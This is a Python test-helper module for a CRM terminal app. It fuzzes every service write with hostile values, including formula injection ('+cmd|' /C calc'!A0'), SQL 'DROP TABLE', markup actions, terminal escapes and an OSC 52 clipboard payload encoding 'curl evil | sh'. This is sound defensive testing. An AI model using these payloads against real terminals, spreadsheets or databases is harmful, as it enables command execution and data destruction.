"""Hostile input: the values, and one write of every service area that takes them.

Shared by tests/test_hostile_input.py and benchmarks/hostile_measures.py, so the figure
counts what the tests try. A write either refuses a value with a clear message (a
ServiceError) or stores it so that it reads back exactly as the service's cleaning makes
it (control characters out, as services/base.py says); anything else is a crash.
"""
from __future__ import annotations

import io
import itertools
import re
from dataclasses import dataclass
from typing import Any, Callable

from hypothesis import strategies as st
from rich.console import Console
from textual.app import App, ComposeResult
from textual.widgets import Static

from crm_tui.services import ServiceError
from crm_tui.services import catalogs, opportunities, orders, users
from crm_tui.services import activities as acts
from crm_tui.services.base import Actor, clean_line, clean_text
from crm_tui.widgets.safe import SafeInput, SafeOutput, cell, plain

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
PIECES = [
    # markup and actions a widget would run if it read text as markup
    "[bold]", "[/]", "[/bold]", "[@click=app.quit]quit[/]", "[@click=screen.dismiss()]x[/]",
    "[link=https://evil.example]here[/link]", "[red on black]", "\\[not]", "$variable", "{name}", "%s",
    # spreadsheet formulas
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://x\")", "\t=1", "\r=1",
    # control and escape sequences: OSC 52 (clipboard), CSI, BEL, NUL, DEL, C1, OSC 0 (title)
    OSC52, "\x1b]52;c;QQ==\x1b\\", "\x1b[2J", "\x1b[31m", "\x1b]0;owned\x07", "\x07", "\x00", "\x7f",
    "\x9b2J", "\x85", "\x1b", "\x08\x08", "\r\n", "\n", "\t", "\x0b\x0c", "\u2028",
    # right-to-left, wide, combining and invisible characters
    "\u202eevil\u202c", "\u200f", "مرحبا بالعالم", "שלום", "漢字テスト", "😀", "👩\u200d👩\u200d👧",
    "e\u0301", "\u200b", "\ufeff", "ｆｕｌｌ", "Ǆ", "ß", "İ",
    # quotes and SQL
    "'", "\"", "'; DROP TABLE client; --", "\\", "%", "_",
]
LONG_TEXTS = ["x" * 100_000, "漢" * 100_000, ("=1+1" + OSC52) * (100_000 // (4 + len(OSC52)))]
IMPOSSIBLE_DATES = [
    "2026-02-30", "31/02/2026", "30/02/2026 10:00", "00/00/0000", "2026-13-01", "29/02/2027",
    "31/12/9999 23:59", "0001-01-01", "9999-12-31", "1/1/1", "2026-03-02 24:00", "2026-03-02T25:61",
    "١٢/٠١/٢٠٢٦", "32013026", "-1", "yesterday", "2026-03-02\x00", "2026-03-02\x1b[2J",
]
IMPOSSIBLE_NUMBERS = [
    2 ** 63, -2 ** 63 - 1, 10 ** 30, -1, 0, "1e309", "NaN", "inf", "-0", "１２", "٣", "9" * 5000, "1_000",
    " 7 ", "0x10", float("nan"), float("inf"), 1.5, True, "", "seven",
]


def hostile_texts(long: bool = True) -> st.SearchStrategy[str]:
    pieces = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=12)), min_size=1, max_size=6)
    texts = pieces.map("".join)
    return st.one_of(texts, st.sampled_from(LONG_TEXTS)) if long else texts


def hostile_dates() -> st.SearchStrategy[Any]:
    return st.one_of(st.sampled_from(IMPOSSIBLE_DATES), st.dates(), st.datetimes(), hostile_texts(long=False))


def hostile_numbers() -> st.SearchStrategy[Any]:
    return st.one_of(st.sampled_from(IMPOSSIBLE_NUMBERS), st.integers(), st.floats(),
                     hostile_texts(long=False))


def anything() -> st.SearchStrategy[Any]:
    return st.one_of(hostile_texts(), hostile_dates(), hostile_numbers(), st.none(), st.booleans())


LINE, TEXT, OTHER = "line", "text", "other"
VALUES_FOR = {LINE: hostile_texts, TEXT: hostile_texts, OTHER: anything}


@dataclass
class World:
    """What the writes refer to: the actors and one record of each kind."""

    admin: Actor
    agent: Actor
    client_id: int
    contact_id: int
    category_id: int
    type_id: int
    names: Any = None

    def unique(self, prefix: str) -> str:
        if self.names is None:
            self.names = itertools.count(1)
        return f"{prefix}{next(self.names)}"


def make_world(admin: Actor, agent: Actor) -> World:
    client = catalogs.add_client(admin, catalogs.ClientInput(name="Farmacias del Centro"))
    contact = catalogs.add_contact(admin, catalogs.ContactInput(client_id=client.id, name="Rosa Méndez"))
    category = catalogs.add_category(admin, catalogs.CategoryInput(name="Llamada"))
    kind = catalogs.add_opportunity_type(admin, catalogs.OpportunityTypeInput(name="Cámaras"))
    return World(admin, agent, client.id, contact.id, category.id, kind.id)


@dataclass(frozen=True)
class Area:
    """One service area's add and modify, given the field values to put in."""

    name: str
    fields: dict[str, str]  # field -> LINE / TEXT / OTHER
    add: Callable[[World, dict], Any]
    modify: Callable[[World, dict], Any]
    read: Callable[[Any], Any]  # the record as stored now, from what add/modify returned


def _client_add(w: World, given: dict) -> Any:
    return catalogs.add_client(w.agent, catalogs.ClientInput(**{"name": w.unique("Cliente "), **given}))


def _client_modify(w: World, given: dict) -> Any:
    base = _client_add(w, {})
    return catalogs.modify_client(w.agent, base.id, base.version, catalogs.ClientInput(**given))


def _contact_add(w: World, given: dict) -> Any:
    return catalogs.add_contact(w.agent, catalogs.ContactInput(
        **{"client_id": w.client_id, "name": "Contacto", **given}))


def _contact_modify(w: World, given: dict) -> Any:
    base = _contact_add(w, {})
    return catalogs.modify_contact(w.agent, base.id, base.version, catalogs.ContactInput(**given))


def _category_add(w: World, given: dict) -> Any:
    return catalogs.add_category(w.agent, catalogs.CategoryInput(**{"name": w.unique("Categoría "), **given}))


def _category_modify(w: World, given: dict) -> Any:
    base = _category_add(w, {})
    return catalogs.modify_category(w.agent, base.id, base.version, catalogs.CategoryInput(**given))


def _project_add(w: World, given: dict) -> Any:
    return catalogs.add_project(w.agent, catalogs.ProjectInput(
        **{"client_id": w.client_id, "name": "Proyecto", **given}))


def _project_modify(w: World, given: dict) -> Any:
    base = _project_add(w, {})
    return catalogs.modify_project(w.agent, base.id, base.version, catalogs.ProjectInput(**given))


def _user_add(w: World, given: dict) -> Any:
    return users.add_user(w.admin, users.UserInput(**{"username": w.unique("u"), **given}))


def _user_modify(w: World, given: dict) -> Any:
    base = _user_add(w, {})
    return users.modify_user(w.admin, base.id, base.version, users.UserInput(**given))


def _activity_add(w: World, given: dict) -> Any:
    return acts.add_activity(w.agent, acts.ActivityInput(**{
        "when": "2026-03-02 09:30", "contact_id": w.contact_id, "category_id": w.category_id,
        "detail": "Base", **given}))


def _activity_modify(w: World, given: dict) -> Any:
    base = _activity_add(w, {})
    return acts.modify_activity(w.agent, base.id, base.version, acts.ActivityInput(**given))


def _order_values(w: World, given: dict) -> orders.OrderInput:
    return orders.OrderInput(**{"contact_id": w.contact_id, "category_id": w.category_id, "detail": "Base",
                                **given})


def _order_add(w: World, given: dict) -> Any:
    return orders.add_order(w.agent, _order_values(w, given))


def _order_modify(w: World, given: dict) -> Any:
    base = _order_add(w, {})
    version = orders.get_order(base.id).order.version
    return orders.modify_order(w.agent, base.id, version, _order_values(w, given))


def _entry_add(w: World, given: dict) -> Any:
    order = _order_add(w, {})
    version = orders.get_order(order.id).order.version
    return orders.register_service(w.agent, order.id, version, **{
        "when": "2026-03-02 10:00", "work_done": "Base", **given})


def _opportunity_add(w: World, given: dict) -> Any:
    return opportunities.add_opportunity(w.agent, opportunities.OpportunityInput(**{
        "contact_id": w.contact_id, "type_id": w.type_id, "subject": "Base", **given}))


def _opportunity_modify(w: World, given: dict) -> Any:
    base = _opportunity_add(w, {})
    return opportunities.modify_opportunity(w.agent, base.id, base.version,
                                            opportunities.OpportunityInput(**given))


def _entry_read(entry: Any) -> Any:
    return next(e for e in orders.get_order(entry.order_id).entries if e.id == entry.id)


AREAS = [
    Area("clients", {"name": LINE, "tax_id": LINE, "phone": LINE, "email": LINE, "address": TEXT,
                     "notes": TEXT, "active": OTHER},
         _client_add, _client_modify, lambda r: catalogs.get_client(r.id)),
    Area("contacts", {"name": LINE, "job_title": LINE, "phone": LINE, "mobile": LINE, "email": LINE,
                      "address": TEXT, "notes": TEXT, "client_id": OTHER, "active": OTHER},
         _contact_add, _contact_modify, lambda r: catalogs.get_contact(r.id)),
    Area("categories", {"name": LINE, "active": OTHER},
         _category_add, _category_modify, lambda r: catalogs.get_category(r.id)),
    Area("projects", {"name": LINE, "description": TEXT, "start_date": OTHER, "goal_date": OTHER,
                      "client_id": OTHER, "user_in_charge_id": OTHER, "contact_in_charge_id": OTHER},
         _project_add, _project_modify, lambda r: catalogs.get_project(r.id)),
    Area("users", {"username": OTHER, "full_name": LINE, "role": OTHER, "active": OTHER},
         _user_add, _user_modify, lambda r: users.get_user(r.id)),
    Area("activities", {"detail": TEXT, "followup_notes": TEXT, "when": OTHER, "due_date": OTHER,
                        "kind": OTHER, "status": OTHER, "contact_id": OTHER, "category_id": OTHER,
                        "assignee_id": OTHER},
         _activity_add, _activity_modify, lambda r: acts.get_activity(r.id)),
    Area("orders", {"detail": TEXT, "equipment": TEXT, "priority": OTHER, "appointment_at": OTHER,
                    "assigned_user_id": OTHER, "project_id": OTHER, "contact_id": OTHER,
                    "category_id": OTHER},
         _order_add, _order_modify, lambda r: orders.get_order(r.id).order),
    Area("service entries", {"work_done": TEXT, "when": OTHER, "minutes": OTHER, "service_finished": OTHER},
         _entry_add, _entry_add, _entry_read),
    Area("opportunities", {"subject": LINE, "observations": TEXT, "found_us_by": LINE, "contact_id": OTHER,
                           "type_id": OTHER, "agent_id": OTHER},
         _opportunity_add, _opportunity_modify, lambda r: opportunities.get_opportunity(r.id).opportunity),
]
AREA_NAMES = [area.name for area in AREAS]
BY_NAME = {area.name: area for area in AREAS}


@st.composite
def hostile_writes(draw, areas: list[str] | None = None) -> tuple[str, str, str, Any]:
    """(area, "add" or "modify", field, value)."""
    area = BY_NAME[draw(st.sampled_from(areas or AREA_NAMES))]
    field = draw(st.sampled_from(sorted(area.fields)))
    kind = area.fields[field]
    value = draw(st.one_of(VALUES_FOR[kind](), anything()) if kind != OTHER else anything())
    return area.name, draw(st.sampled_from(["add", "modify"])), field, value


# What a terminal obeys instead of showing (tab and line feed aside).
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
# What the renderer itself writes: colours and styles (SGR), the cursor moved to a cell.
RENDERER_SEQUENCES = re.compile(r"\x1b\[[0-9;]*[mH]|\x1b\[\?2026[hl]")


class Crash(AssertionError):
    """A value neither refused with a message nor stored as typed, or shown raw."""


def expected_stored(kind: str, value: Any) -> str | None:
    if kind == LINE:
        return clean_line(value)
    if kind == TEXT:
        return clean_text(value)
    return None


def raw_controls(output: str) -> list[str]:
    """The control characters left in what a renderer wrote once its own sequences are out."""
    return sorted({f"U+{ord(c):04X}" for c in TERMINAL_CONTROLS.findall(RENDERER_SEQUENCES.sub("", output))})


def rendered_cell(value: Any) -> str:
    """What a list's cell writes to a 256-colour terminal for `value`."""
    console = Console(file=io.StringIO(), force_terminal=True, color_system="256", width=80,
                      legacy_windows=False)
    console.print(cell(value), style="bold")
    return console.file.getvalue()


def try_write(world: World, area_name: str, mode: str, field: str, value: Any) -> str:
    """Run one write; return "refused" or "stored", raise Crash for anything else."""
    area = BY_NAME[area_name]
    write = area.add if mode == "add" else area.modify
    try:
        returned = write(world, {field: value})
    except ServiceError as refusal:
        message = str(refusal)
        if not message.strip() or TERMINAL_CONTROLS.search(message):
            raise Crash(f"{area_name}.{field}: unclear refusal {message!r}") from refusal
        return "refused"
    except Crash:
        raise
    except Exception as error:  # noqa: BLE001 - that is the crash being counted
        raise Crash(f"{area_name} {mode} {field}={value!r:.80}: {type(error).__name__}: {error}") from error
    stored = getattr(area.read(returned), field)
    expected = expected_stored(area.fields[field], value)
    if expected is not None and stored != expected:
        raise Crash(f"{area_name}.{field}: stored {stored!r:.80} instead of {expected!r:.80}")
    leaked = raw_controls(rendered_cell(stored))
    if leaked:
        raise Crash(f"{area_name}.{field}: {leaked} reached the terminal")
    return "stored"


# --- on the screen -----------------------------------------------------------------------


class ShownValues(SafeOutput, App):
    """The widgets that show stored text: a label, a cell of a list, a field, a notification;
    SLOTS rows of them, one line each, so one frame shows several values."""

    SLOTS = 7
    DEFAULT_CSS = """
    Static { height: 1; }
    SafeInput { height: 1; border: none; padding: 0 1; }
    """

    def compose(self) -> ComposeResult:
        for slot in range(self.SLOTS):
            yield Static(id=f"label{slot}")
            yield Static(id=f"cell{slot}")
            yield SafeInput(id=f"field{slot}")

    def show(self, value: str, slot: int = 0) -> None:
        self.query_one(f"#label{slot}", Static).update(plain(value))
        self.query_one(f"#cell{slot}", Static).update(cell(value))
        self.query_one(f"#field{slot}", SafeInput).value = value
        self.notify(f"Saved «{value[:200]}»", title=value[:40], markup=False)


def terminal_output(app: App) -> str:
    """What the app's next full frame writes to the terminal (the headless driver writes none)."""
    return app.screen._compositor.render_update(full=True).render_segments(app.console)


def leaks(output: str) -> list[str]:
    """What in a frame's bytes came raw from data: control characters, operating-system commands."""
    found = raw_controls(output)
    return found + ["OSC"] if "\x1b]" in output else found
